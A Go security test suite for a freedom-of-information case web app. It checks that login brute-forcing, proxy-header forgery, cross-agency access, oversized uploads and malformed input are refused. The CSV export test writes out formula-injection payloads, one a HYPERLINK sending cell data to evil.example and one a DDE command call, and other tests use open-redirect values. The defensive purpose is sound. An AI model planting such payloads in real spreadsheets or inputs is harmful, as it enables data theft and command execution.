package web

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	cases "foidesk/case"
	"foidesk/store"
)

// The attack suite (issue 11): each attack goes through the real router, as an outsider or as
// staff of another agency, and must be refused.

// loginFrom posts a login from address addr with a fresh browser.
func (o *office) loginFrom(addr, user, pw string) (*browser, int) {
	b := o.browser()
	b.addr = addr
	w := b.post("/login", url.Values{"username": {user}, "password": {pw}})
	return b, w.Code
}

// Item 2: parallel guesses of one account from one address are each counted before any password
// is checked: no more than 5 passwords are ever checked (401), the rest get 429, and then the
// right password gets 429 too.
func TestAttackLoginRace(t *testing.T) {
	o := newOffice(t)
	var wg sync.WaitGroup
	codes := make([]int, 60)
	for i := range codes {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, codes[i] = o.loginFrom("203.0.113.7", "clerk1", "guess-"+strconv.Itoa(i))
		}()
	}
	wg.Wait()
	checked := 0
	for _, c := range codes {
		switch c {
		case http.StatusUnauthorized:
			checked++
		case http.StatusTooManyRequests:
		default:
			t.Errorf("parallel guess answered %d", c)
		}
	}
	if checked > maxUserFailures {
		t.Fatalf("%d of 60 parallel guesses were checked; at most %d may be", checked, maxUserFailures)
	}
	if _, code := o.loginFrom("203.0.113.7", "clerk1", testPassword); code != http.StatusTooManyRequests {
		t.Fatalf("right password after the guesses: %d, want 429", code)
	}
}

// Item 3: five wrong passwords from one address do not lock the owner out from another
// address; only the much higher per-account ceiling does, and then an administrator unlocks it
// (auth log "unlock").
func TestAttackLoginLockout(t *testing.T) {
	o := newOffice(t)
	for i := 0; i < maxUserFailures; i++ {
		o.loginFrom("203.0.113.9", "clerk1", "wrong")
	}
	b, code := o.loginFrom("203.0.113.9", "clerk1", testPassword)
	if code != http.StatusTooManyRequests {
		t.Fatalf("the attacking address with the right password: %d, want 429", code)
	}
	_ = b
	if _, code := o.loginFrom("198.51.100.20", "clerk1", testPassword); code != http.StatusSeeOther {
		t.Fatalf("the owner from another address: %d, want 303", code)
	}
	// A distributed attack: the per-account ceiling from many addresses locks the account.
	for i := 0; i < maxAccountFailures; i++ {
		o.loginFrom("10.1."+strconv.Itoa(i/4)+"."+strconv.Itoa(i%4+1), "clerk1", "wrong")
	}
	b, code = o.loginFrom("198.51.100.20", "clerk1", testPassword)
	if code != http.StatusTooManyRequests {
		t.Fatalf("after %d failures from many addresses: %d, want 429 (locked)", maxAccountFailures, code)
	}
	admin := o.as("admin1")
	page := admin.get("/admin/users/" + strconv.FormatInt(o.users["clerk1"].ID, 10)).Body.String()
	if !strings.Contains(page, `action="/admin/users/`+strconv.FormatInt(o.users["clerk1"].ID, 10)+`/unlock"`) {
		t.Fatalf("the admin page offers no unlock: %s", pageText(page))
	}
	if w := admin.post("/admin/users/"+strconv.FormatInt(o.users["clerk1"].ID, 10)+"/unlock", url.Values{}); w.Code != http.StatusSeeOther {
		t.Fatalf("unlock: %d", w.Code)
	}
	if _, code := o.loginFrom("198.51.100.20", "clerk1", testPassword); code != http.StatusSeeOther {
		t.Fatalf("after the unlock: %d, want 303", code)
	}
}

// Item 1: password hashes are bounded: while every slot is taken, a login waits briefly and
// then gets 429 with Retry-After, without hashing anything.
func TestAttackLoginHashBound(t *testing.T) {
	o := newOffice(t)
	for range cap(o.s.hashes) {
		o.s.hashes <- struct{}{}
	}
	start := time.Now()
	b := o.browser()
	w := b.post("/login", url.Values{"username": {"nobody"}, "password": {"x"}})
	if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" {
		t.Fatalf("login with every hash slot taken: %d Retry-After %q", w.Code, w.Header().Get("Retry-After"))
	}
	if d := time.Since(start); d < hashWait || d > hashWait+5*time.Second {
		t.Errorf("waited %v, want about %v", d, hashWait)
	}
	for range cap(o.s.hashes) {
		<-o.s.hashes
	}
	if w := b.post("/login", url.Values{"username": {"clerk1"}, "password": {testPassword}}); w.Code != http.StatusSeeOther {
		t.Fatalf("login once free: %d", w.Code)
	}
	if !strings.Contains(store.HashPassword("x"), "$m=19456,t=2,p=1$") {
		t.Errorf("hash parameters: %s", store.HashPassword("x"))
	}
}

// Item 6: an agency's administrator manages its own agency only: it neither sees nor changes
// another agency's accounts, mints no token for anyone else, creates no agencies and sets no
// calendar days; only the deployment administrator (--all-agencies) does.
func TestAttackAgencyAdminScoped(t *testing.T) {
	o := newOffice(t)
	rs, _ := store.ParseRoles("admin")
	adminB, err := o.db.CreateUser(o.ctx, "adminb", testPassword, rs, o.other.ID, "adminb")
	if err != nil {
		t.Fatal(err)
	}
	b := o.as("adminb")
	clerk1 := "/admin/users/" + strconv.FormatInt(o.users["clerk1"].ID, 10)
	if w := b.get(clerk1); w.Code != http.StatusForbidden {
		t.Errorf("agency B's admin opened agency A's clerk: %d", w.Code)
	}
	if w := b.post(clerk1+"/tokens", url.Values{"label": {"x"}}); w.Code != http.StatusForbidden || tokenRE.MatchString(w.Body.String()) {
		t.Fatalf("agency B's admin minted a token for agency A's clerk: %d", w.Code)
	}
	if w := b.post(clerk1, url.Values{"agency": {strconv.FormatInt(o.other.ID, 10)}, "roles": {"clerk"}, "active": {"1"}, "password": {"Taken over 2026!"}}); w.Code != http.StatusForbidden {
		t.Errorf("agency B's admin changed agency A's clerk: %d", w.Code)
	}
	clerkb := "/admin/users/" + strconv.FormatInt(o.users["clerkb"].ID, 10)
	if w := b.post(clerkb+"/tokens", url.Values{"label": {"x"}}); w.Code != http.StatusForbidden {
		t.Errorf("an admin minted a token for its own agency's clerk: %d", w.Code)
	}
	if w := b.get("/admin/users"); w.Code != http.StatusOK || strings.Contains(w.Body.String(), ">clerk1<") || !strings.Contains(w.Body.String(), "clerkb") {
		t.Errorf("users list of agency B's admin: %d %s", w.Code, pageText(w.Body.String()))
	}
	def := strconv.FormatInt(o.users["clerk1"].AgencyID, 10)
	if w := b.post("/admin/users", url.Values{"username": {"spy"}, "password": {"Spy password 2026"}, "roles": {"clerk"}, "agency": {def}}); w.Code != http.StatusUnprocessableEntity {
		t.Errorf("agency B's admin created an account in agency A: %d", w.Code)
	}
	if w := b.post("/admin/agencies", url.Values{"code": {"x"}, "name": {"某局"}}); w.Code != http.StatusForbidden {
		t.Errorf("agency admin created an agency: %d", w.Code)
	}
	if w := b.get("/admin/agencies/" + def); w.Code != http.StatusForbidden {
		t.Errorf("agency admin opened another agency's settings: %d", w.Code)
	}
	if w := b.post("/admin/calendar", url.Values{"day": {"2026-11-20"}, "kind": {"off"}, "note": {"x"}}); w.Code != http.StatusForbidden {
		t.Errorf("agency admin set a calendar day: %d", w.Code)
	}
	// Its own agency it manages: a new clerk of agency B must change the password first.
	w := b.post("/admin/users", url.Values{"username": {"clerkb2"}, "password": {"Initial pass 2026"}, "roles": {"clerk"}, "agency": {strconv.FormatInt(o.other.ID, 10)}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("own agency's account: %d %s", w.Code, pageText(w.Body.String()))
	}
	// Separation of duties: no account both administers and handles cases.
	if w := b.post("/admin/users", url.Values{"username": {"both"}, "password": {"Initial pass 2026"}, "roles": {"clerk", "admin"}}); w.Code != http.StatusUnprocessableEntity {
		t.Errorf("admin+clerk account: %d", w.Code)
	}
	_ = adminB
}

// Item 9 (等保): an account an administrator created changes its password at the first login
// before anything else; the new one follows the policy.
func TestAttackMustChangePassword(t *testing.T) {
	o := newOffice(t)
	admin := o.as("admin1")
	w := admin.post("/admin/users", url.Values{"username": {"newclerk"}, "password": {"Initial pass 2026"}, "roles": {"clerk"}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("create: %d %s", w.Code, pageText(w.Body.String()))
	}
	b := o.browser()
	w = b.post("/login", url.Values{"username": {"newclerk"}, "password": {"Initial pass 2026"}})
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/account/password" {
		t.Fatalf("first login: %d → %s", w.Code, w.Header().Get("Location"))
	}
	if w := b.get("/staff/queue"); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/account/password" {
		t.Fatalf("the queue before the change: %d → %s", w.Code, w.Header().Get("Location"))
	}
	for _, weak := range []string{"short1A", "alllowercaseletters", "Newclerk-2026-x", "Initial pass 2026"} {
		w := b.post("/account/password", url.Values{"current": {"Initial pass 2026"}, "password": {weak}, "confirm": {weak}})
		if w.Code != http.StatusUnprocessableEntity {
			t.Errorf("weak password %q: %d", weak, w.Code)
		}
	}
	w = b.post("/account/password", url.Values{"current": {"wrong"}, "password": {"My own pass 2026"}, "confirm": {"My own pass 2026"}})
	if w.Code != http.StatusUnprocessableEntity {
		t.Errorf("wrong current password: %d", w.Code)
	}
	w = b.post("/account/password", url.Values{"current": {"Initial pass 2026"}, "password": {"My own pass 2026"}, "confirm": {"My own pass 2026"}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("change: %d %s", w.Code, pageText(w.Body.String()))
	}
	if w := b.get("/staff/queue"); w.Code != http.StatusOK {
		t.Fatalf("the queue after the change: %d", w.Code)
	}
	// An administrator's reset makes the user change it again.
	u, _ := o.db.UserByName(o.ctx, "newclerk")
	w = admin.post("/admin/users/"+strconv.FormatInt(u.ID, 10), url.Values{"agency": {strconv.FormatInt(u.AgencyID, 10)}, "roles": {"clerk"}, "active": {"1"}, "password": {"Reset by admin 2026"}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("reset: %d %s", w.Code, pageText(w.Body.String()))
	}
	if u, _ := o.db.UserByName(o.ctx, "newclerk"); !u.MustChangePassword || !store.CheckPassword(u.PasswordHash, "Reset by admin 2026") {
		t.Fatalf("after the reset: must change %v", u.MustChangePassword)
	}
	_ = cases.RoleClerk
}

// Item 7: behind a reverse proxy. X-Forwarded-For and -Proto are believed only from the trusted
// proxies: the throttle keys on the real client, and HTTPS per the proxy gets Secure cookies and
// HSTS; a forged header from anyone else changes nothing.
func TestAttackTrustedProxies(t *testing.T) {
	o := newOffice(t)
	// No proxy trusted (the default): a forged X-Forwarded-For does not escape the throttle.
	for i := 0; i < maxUserFailures; i++ {
		b := o.browser()
		b.addr = "203.0.113.50"
		b.header.Set("X-Forwarded-For", "192.0.2."+strconv.Itoa(i+10))
		b.post("/login", url.Values{"username": {"clerk2"}, "password": {"wrong"}})
	}
	b := o.browser()
	b.addr = "203.0.113.50"
	b.header.Set("X-Forwarded-For", "192.0.2.99")
	b.header.Set("X-Forwarded-Proto", "https")
	w := b.post("/login", url.Values{"username": {"clerk2"}, "password": {testPassword}})
	if w.Code != http.StatusTooManyRequests {
		t.Fatalf("forged X-Forwarded-For escaped the throttle: %d", w.Code)
	}
	if w.Header().Get("Strict-Transport-Security") != "" {
		t.Error("HSTS on a forged X-Forwarded-Proto")
	}

	// The proxy 10.0.0.0/8 is trusted: clients behind it are told apart.
	if err := o.s.engine.SetTrustedProxies([]string{"10.0.0.0/8"}); err != nil {
		t.Fatal(err)
	}
	var err error
	if o.s.proxies, err = parseProxies([]string{"10.0.0.0/8"}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < maxUserFailures; i++ {
		b := o.browser()
		b.addr = "10.0.0.2"
		b.header.Set("X-Forwarded-For", "198.51.100.66")
		b.post("/login", url.Values{"username": {"sup1"}, "password": {"wrong"}})
	}
	owner := o.browser()
	owner.addr = "10.0.0.2"
	owner.header.Set("X-Forwarded-For", "198.51.100.77")
	owner.header.Set("X-Forwarded-Proto", "https")
	w = owner.post("/login", url.Values{"username": {"sup1"}, "password": {testPassword}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("another client behind the same proxy was blocked: %d", w.Code)
	}
	ck := w.Result().Cookies()
	if len(ck) == 0 || !ck[0].Secure {
		t.Errorf("cookie over HTTPS per the trusted proxy not Secure: %+v", ck)
	}
	if hsts := w.Header().Get("Strict-Transport-Security"); !strings.HasPrefix(hsts, "max-age=") {
		t.Errorf("HSTS over HTTPS: %q", hsts)
	}
	var addrs []string
	if err := o.db.R.Select(&addrs, `SELECT DISTINCT address FROM auth_log WHERE username = 'sup1' ORDER BY address`); err != nil {
		t.Fatal(err)
	}
	if strings.Join(addrs, ",") != "198.51.100.66,198.51.100.77" {
		t.Errorf("auth log addresses: %v, want the clients behind the proxy", addrs)
	}
	plain := o.browser()
	if w := plain.get("/login"); w.Header().Get("Strict-Transport-Security") != "" {
		t.Error("HSTS over plain HTTP")
	}
}

// Item 8: pages and API answers with personal data are never cached.
func TestAttackNoStore(t *testing.T) {
	o := newOffice(t)
	c := o.register("2026-11-02")
	id := strconv.FormatInt(c.ID, 10)
	for i, w := range []*http.Response{
		o.as("clerk1").get("/staff/cases/" + id).Result(),
		o.api("clerk1", "GET", "/api/v1/cases/"+id, nil).Result(),
		o.api("clerk1", "GET", "/api/v1/cases", nil).Result(),
	} {
		if w.StatusCode != http.StatusOK || !strings.Contains(w.Header.Get("Cache-Control"), "no-store") {
			t.Errorf("answer %d: %d Cache-Control %q", i, w.StatusCode, w.Header.Get("Cache-Control"))
		}
	}
}

// Item 4: CSV formula injection. An applicant's name and a description that look like formulas
// are exported with a leading ' in every CSV (ledger from the page and the API; the CLI writes
// the same forms.LedgerCSV), and as plain string cells in the XLSX.
func TestAttackCSVFormulaInjection(t *testing.T) {
	o, ok := reportOffice(t)
	if !ok {
		t.Skip("no CJK font: the exports need forms' renderer (CI fails instead)")
	}
	evilName := `=HYPERLINK("http://evil.example/x?"&I3,"张三")`
	evilDesc := `@SUM(1+1)*cmd|' /C calc'!A0 请公开本区2025年道路维修资金使用情况。`
	app := paperApp("2026-01-05")
	app.Applicant.Name = evilName
	app.Description = evilDesc
	if _, err := o.db.RegisterPaper(o.ctx, app, o.actor("clerk1")); err != nil {
		t.Fatal(err)
	}
	q := "from=2026-01-01&to=2026-01-31"
	for _, body := range []string{
		o.as("sup1").get("/staff/ledger/export?" + q + "&format=csv").Body.String(),
		o.api("sup1", "GET", "/api/v1/ledger?"+q+"&format=csv", nil).Body.String(),
	} {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil || len(recs) < 2 {
			t.Fatalf("ledger CSV: %v %q", err, body)
		}
		found := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a cell starts a formula: %q", cell)
				}
				if cell == "'"+evilName || cell == "'"+evilDesc {
					found++
				}
			}
		}
		if found == 0 {
			t.Errorf("the applicant's name is not in the CSV, quoted: %q", body)
		}
	}
	w := o.api("sup1", "GET", "/api/v1/ledger?"+q+"&format=xlsx", nil)
	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatalf("xlsx: %d %v", w.Code, err)
	}
	rows, _ := f.GetRows("台账")
	seen := false
	for i, row := range rows {
		for j, v := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula("台账", cell); fm != "" {
				t.Errorf("xlsx cell %s is a formula: %q", cell, fm)
			}
			// docs/api.md "Ledger exports": XLSX cells are text — every one, the serial number too.
			if ty, _ := f.GetCellType("台账", cell); v != "" && ty != excelize.CellTypeInlineString && ty != excelize.CellTypeSharedString {
				t.Errorf("xlsx cell %s (%q) type %v, want text", cell, v, ty)
			}
			if v == evilName {
				seen = true
				if ty, _ := f.GetCellType("台账", cell); ty != excelize.CellTypeInlineString && ty != excelize.CellTypeSharedString {
					t.Errorf("xlsx cell %s type %v, want a string", cell, ty)
				}
			}
		}
	}
	if !seen {
		t.Error("the applicant's name is not a text cell of the XLSX")
	}
}

// Item 5: uploads have a quota per case (10 files, 30 MB from the applicant; 1–5 files a
// request), a request beyond it is refused whole with 422 naming the field, and the 201 answer
// describes the files as stored (size, sha256, created_at).
func TestAttackUploadQuota(t *testing.T) {
	s, db := newTestServer(t)
	no, code := apiApply(t, s, nil)
	upload := func(files ...fileField) *httptest.ResponseRecorder {
		body, ct := multipartBody(t, nil, files...)
		req := newRequest("POST", "/api/v1/applications/"+no+"/files", body.String())
		req.Header.Set("Content-Type", ct)
		req.Header.Set("X-Access-Code", code)
		return do(s, req)
	}
	five := func(size int) []fileField {
		var fs []fileField
		for i := range 5 {
			fs = append(fs, fileField{"file", "id" + strconv.Itoa(i) + ".png", "image/png", pngBytes(size + i)})
		}
		return fs
	}
	w := upload(append(five(1000), fileField{"file", "x.png", "image/png", pngBytes(10)})...)
	if w.Code != http.StatusUnprocessableEntity || decodeError(t, w).Error.Fields["file"] == "" {
		t.Fatalf("6 files in one request: %d %s", w.Code, w.Body)
	}
	w = upload(five(1000)...)
	var up struct {
		Documents []struct {
			ID        int64     `json:"id"`
			Title     string    `json:"title"`
			Size      int64     `json:"size"`
			SHA256    string    `json:"sha256"`
			CreatedAt time.Time `json:"created_at"`
		} `json:"documents"`
	}
	if w.Code != http.StatusCreated || json.Unmarshal(w.Body.Bytes(), &up) != nil || len(up.Documents) != 5 {
		t.Fatalf("5 files: %d %s", w.Code, w.Body)
	}
	c, _ := db.CaseByTracking(context.Background(), no)
	for i, d := range up.Documents {
		stored, err := db.Document(context.Background(), c.ID, d.ID)
		sum := sha256.Sum256(pngBytes(1000 + i))
		if err != nil || d.Size != int64(1000+i) || d.Size != stored.Size || d.SHA256 != hex.EncodeToString(sum[:]) || !d.CreatedAt.Equal(stored.CreatedAt) || d.CreatedAt.IsZero() || d.Title == "" {
			t.Errorf("201 document %d: %+v, stored %+v %v", i, d, stored, err)
		}
	}
	if w := upload(five(2000)...); w.Code != http.StatusCreated {
		t.Fatalf("files 6–10: %d %s", w.Code, w.Body)
	}
	before, _ := db.Documents(context.Background(), c.ID)
	if w := upload(fileField{"file", "eleven.png", "image/png", pngBytes(100)}); w.Code != http.StatusUnprocessableEntity || decodeError(t, w).Error.Fields["file"] == "" {
		t.Fatalf("the 11th file: %d %s", w.Code, w.Body)
	}
	if after, _ := db.Documents(context.Background(), c.ID); len(after) != len(before) {
		t.Fatalf("a refused upload stored %d documents", len(after)-len(before))
	}

	// Bytes: three requests of 9.9 MB fit under 30 MB, the fourth does not (another case).
	no, code = apiApply(t, s, func(m map[string]any) {
		m["description"] = "请公开本区2025年度道路养护资金的使用情况。"
	})
	for i := range 3 {
		if w := upload(fileField{"file", "big.png", "image/png", pngBytes(9_900_000 + i)}); w.Code != http.StatusCreated {
			t.Fatalf("9.9 MB file %d: %d %s", i+1, w.Code, w.Body)
		}
	}
	if w := upload(fileField{"file", "big.png", "image/png", pngBytes(2 << 20)}); w.Code != http.StatusUnprocessableEntity || decodeError(t, w).Error.Fields["file"] == "" {
		t.Fatalf("beyond 30 MB: %d %s", w.Code, w.Body)
	}
}

// apiError decodes an API error body, failing the test when it is not one.
func apiErrorOf(t *testing.T, w *httptest.ResponseRecorder) (code, message string, fields map[string]string) {
	t.Helper()
	var e struct {
		Error struct {
			Code    string            `json:"code"`
			Message string            `json:"message"`
			Fields  map[string]string `json:"fields"`
		} `json:"error"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &e); err != nil || e.Error.Code == "" {
		t.Fatalf("%d: not the JSON error body: %q", w.Code, w.Body.String())
	}
	return e.Error.Code, e.Error.Message, e.Error.Fields
}

// Item 8: the smaller holes. An open redirect after login, NUL and bidi controls and overlong
// text, invalid UTF-8, absurd calendar dates, English 422s naming Go types.
func TestAttackSmallHoles(t *testing.T) {
	o := newOffice(t)
	for _, next := range []string{"/\t/evil.example", "/\n/evil.example", "/\\evil.example", "/ /evil.example", "//evil.example"} {
		b := o.browser()
		w := b.post("/login", url.Values{"username": {"clerk1"}, "password": {testPassword}, "next": {next}})
		if loc := w.Header().Get("Location"); w.Code != http.StatusSeeOther || loc != "/staff/queue" {
			t.Errorf("next=%q: %d → %q", next, w.Code, loc)
		}
	}
	c := o.register("2026-11-02")
	id := strconv.FormatInt(c.ID, 10)
	note := func(text string) *httptest.ResponseRecorder {
		return o.api("clerk1", "POST", "/api/v1/cases/"+id+"/events", map[string]any{"event": "add_note", "text": text})
	}
	for name, text := range map[string]string{"NUL": "备注\x00隐藏", "RLO": "张三\u202Efdp.exe", "LRI": "x\u2066y", "long": strings.Repeat("长", maxFreeText+1)} {
		w := note(text)
		if w.Code != http.StatusUnprocessableEntity {
			t.Errorf("%s note: %d", name, w.Code)
			continue
		}
		if _, _, f := apiErrorOf(t, w); f["text"] == "" {
			t.Errorf("%s note: fields %v, want text", name, f)
		}
	}
	// The same through the case page's form.
	b := o.as("clerk1")
	w := b.post("/staff/cases/"+id+"/events", url.Values{"event": {"add_note"}, "text": {"a\u202Eb"}, "expected_version": {strconv.Itoa(c.Version)}})
	if w.Code != http.StatusUnprocessableEntity {
		t.Errorf("bidi note through the page: %d", w.Code)
	}
	w = b.post("/staff/cases/"+id+"/events", url.Values{"event": {"add_note"}, "text": {strings.Repeat("x", 5<<20)}, "expected_version": {strconv.Itoa(c.Version)}})
	if w.Code < 400 || w.Code >= 500 {
		t.Errorf("5 MB note through the page: %d", w.Code)
	}
	unchanged(t, o, c)
	// Invalid UTF-8 is refused, not silently replaced.
	req := httptest.NewRequest("POST", "/api/v1/cases/"+id+"/events", strings.NewReader("{\"event\":\"add_note\",\"text\":\"\xff\xfe\"}"))
	req.Header.Set("Authorization", "Bearer "+o.tokens["clerk1"])
	req.Header.Set("Content-Type", "application/json")
	w = serve(o.s, req)
	if w.Code != http.StatusUnprocessableEntity {
		t.Fatalf("invalid UTF-8: %d %s", w.Code, w.Body)
	}
	if _, _, f := apiErrorOf(t, w); f["body"] == "" {
		t.Errorf("invalid UTF-8: fields %v", f)
	}
	// A receipt date before the Regulations' revision took effect.
	w = o.api("clerk1", "POST", "/api/v1/cases", map[string]any{"applicant": map[string]any{"kind": "person", "name": "张三", "id_type": "resident_id", "id_number": "11010519491231002X", "phone": "13800138000"},
		"description": "请公开2025年本区老旧小区改造项目的资金使用情况。", "delivery": "pickup", "carrier": "paper", "channel": "in_person", "received_on": "1900-01-01"})
	if w.Code != http.StatusUnprocessableEntity {
		t.Errorf("received_on 1900: %d %s", w.Code, w.Body)
	} else if _, _, f := apiErrorOf(t, w); f["received_on"] == "" {
		t.Errorf("received_on 1900: fields %v", f)
	}
	// The calendar does not count past the year 9999.
	for _, q := range []string{"from=9999-12-31&days=20", "from=2026-01-01&days=100000", "from=0001-01-01&days=1"} {
		w := o.api("clerk1", "GET", "/api/v1/calendar/due?"+q, nil)
		if w.Code != http.StatusUnprocessableEntity {
			t.Errorf("calendar/due?%s: %d %s", q, w.Code, w.Body)
		} else if _, _, f := apiErrorOf(t, w); len(f) == 0 {
			t.Errorf("calendar/due?%s: no fields", q)
		}
	}
	// English messages of a wrong JSON type name the field and no Go type.
	w = o.api("clerk1", "POST", "/api/v1/cases/"+id+"/events?lang=en", map[string]any{"event": "add_note", "text": 42})
	code, msg, f := apiErrorOf(t, w)
	if w.Code != http.StatusUnprocessableEntity || code != "EINVALID" || f["text"] == "" {
		t.Errorf("wrong type: %d %s %v", w.Code, msg, f)
	}
	for _, goName := range []string{"string", "int", "float64", "cases.", "struct", "json:"} {
		if strings.Contains(msg+f["text"], goName) {
			t.Errorf("the English message names a Go type (%s): %q %q", goName, msg, f["text"])
		}
	}
}

// Item 9: the API contract. Unknown routes and wrong methods answer the JSON error body; a 422
// from a bad JSON type, a bad date, a report parameter or a cursor names its input in fields;
// the bearer scheme is case-insensitive.
func TestAttackAPIContract(t *testing.T) {
	o := newOffice(t)
	c := o.register("2026-11-02")
	id := strconv.FormatInt(c.ID, 10)
	w := o.api("clerk1", "GET", "/api/v1/no/such/route", nil)
	if code, _, _ := apiErrorOf(t, w); w.Code != http.StatusNotFound || code != "ENOTFOUND" {
		t.Errorf("unknown route: %d %s", w.Code, code)
	}
	w = o.api("clerk1", "DELETE", "/api/v1/cases/"+id, nil)
	if apiErrorOf(t, w); w.Code != http.StatusMethodNotAllowed {
		t.Errorf("wrong method: %d", w.Code)
	}
	w = o.api("", "PUT", "/api/v1/applications", nil)
	if apiErrorOf(t, w); w.Code != http.StatusMethodNotAllowed {
		t.Errorf("wrong method on a public route: %d", w.Code)
	}
	for _, tc := range []struct {
		method, path string
		body         any
		field        string
	}{
		{"POST", "/api/v1/cases/" + id + "/events", map[string]any{"event": "add_note", "text": []int{1}}, "text"},
		{"POST", "/api/v1/cases/" + id + "/events", map[string]any{"event": "record_remedy", "kind": "reconsideration", "filed_on": "2026-13-45"}, "filed_on"},
		{"POST", "/api/v1/cases/" + id + "/events", map[string]any{"event": "fly"}, "event"},
		{"POST", "/api/v1/cases/" + id + "/events", map[string]any{"event": "add_note", "text": "x", "expected_version": "one"}, "expected_version"},
		{"POST", "/api/v1/cases", map[string]any{"applicant": map[string]any{"kind": "person", "name": 5}}, "applicant.name"},
		{"POST", "/api/v1/cases", map[string]any{"received_on": "yesterday"}, "received_on"},
		{"POST", "/api/v1/cases", map[string]any{"nonsense": 1}, "nonsense"},
		{"POST", "/api/v1/cases", "not an object", "body"},
		{"GET", "/api/v1/reports/annual?year=abc", nil, "year"},
		{"GET", "/api/v1/reports/annual?year=99999", nil, "year"},
		{"GET", "/api/v1/reports/monthly?year=2026&month=13", nil, "month"},
		{"GET", "/api/v1/reports/annual?year=2026&format=docx", nil, "format"},
		{"GET", "/api/v1/ledger?from=2026-02-30&to=2026-03-01", nil, "from"},
		{"GET", "/api/v1/ledger?to=2026-03-01", nil, "from"},
		{"GET", "/api/v1/ledger?from=2026-03-01&to=2026-03-31&by=sideways", nil, "by"},
		{"GET", "/api/v1/ledger?from=2026-03-31&to=2026-03-01", nil, "to"},
		{"GET", "/api/v1/ledger?from=2026-03-01&to=2026-03-31&outcome=granted", nil, "outcome"},
		{"GET", "/api/v1/ledger?from=2026-03-01&to=2026-03-31&state=lost", nil, "state"},
		{"GET", "/api/v1/cases?cursor=garbage", nil, "cursor"},
		{"GET", "/api/v1/calendar/due?from=x&days=1", nil, "from"},
	} {
		who := "clerk1"
		if strings.Contains(tc.path, "/reports/") {
			who = "sup1"
		}
		w := o.api(who, tc.method, tc.path, tc.body)
		if w.Code != http.StatusUnprocessableEntity {
			t.Errorf("%s %s %v: %d %s", tc.method, tc.path, tc.body, w.Code, w.Body)
			continue
		}
		if _, _, f := apiErrorOf(t, w); f[tc.field] == "" {
			t.Errorf("%s %s %v: fields %v, want %s", tc.method, tc.path, tc.body, f, tc.field)
		}
	}
	for _, scheme := range []string{"bearer", "BEARER", "Bearer"} {
		req := httptest.NewRequest("GET", "/api/v1/cases/"+id, nil)
		req.Header.Set("Authorization", scheme+" "+o.tokens["clerk1"])
		if w := serve(o.s, req); w.Code != http.StatusOK {
			t.Errorf("scheme %q: %d", scheme, w.Code)
		}
	}
}

// Item 9 (等保): every staff view of personal data is in the append-only access log — who,
// when, which case, from where — shown to the supervisor on the case page and exportable; the
// queue (a list) is not a view.
func TestAttackAccessLog(t *testing.T) {
	o := newOffice(t)
	c := o.register("2026-11-02")
	id := strconv.FormatInt(c.ID, 10)
	clerk := o.as("clerk1")
	clerk.addr = "198.51.100.5"
	if w := clerk.get("/staff/cases/" + id); w.Code != http.StatusOK {
		t.Fatal(w.Code)
	}
	clerk.get("/staff/queue")
	o.api("clerk2", "GET", "/api/v1/cases/"+id, nil)
	o.api("clerk2", "GET", "/api/v1/cases/"+id+"/documents/"+strconv.FormatInt(c.Documents[0].ID, 10), nil)
	o.api("clerk2", "GET", "/api/v1/cases", nil)
	o.s.FlushAccessLog()
	es, err := o.db.AccessLog(o.ctx, c.ID, 10)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range es {
		got = append(got, e.Username+" "+e.What+" "+e.Address)
	}
	want := []string{"clerk2 document:" + strconv.FormatInt(c.Documents[0].ID, 10) + " 192.0.2.1", "clerk2 api_case 192.0.2.1", "clerk1 case_page 198.51.100.5"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("access log: %q, want %q", got, want)
	}
	if _, err := o.db.W.Exec(`UPDATE access_log SET username = 'nobody'`); err == nil {
		t.Error("the access log can be edited")
	}
	if _, err := o.db.W.Exec(`DELETE FROM access_log`); err == nil {
		t.Error("the access log can be deleted")
	}
	sup := o.as("sup1")
	page := sup.get("/staff/cases/" + id).Body.String()
	if !strings.Contains(page, `id="access-log"`) || !strings.Contains(page, "198.51.100.5") {
		t.Errorf("the supervisor's case page lacks the access log: %s", pageText(page))
	}
	if page := clerk.get("/staff/cases/" + id).Body.String(); strings.Contains(page, `id="access-log"`) {
		t.Error("a clerk sees the access log")
	}
	w := sup.get("/staff/access-log?from=2026-11-01&to=2026-11-30")
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "clerk1") || !strings.Contains(w.Body.String(), "api_case") {
		t.Errorf("export: %d %s", w.Code, w.Body.String())
	}
	if w := clerk.get("/staff/access-log?from=2026-11-01&to=2026-11-30"); w.Code != http.StatusForbidden {
		t.Errorf("a clerk exported the access log: %d", w.Code)
	}
}
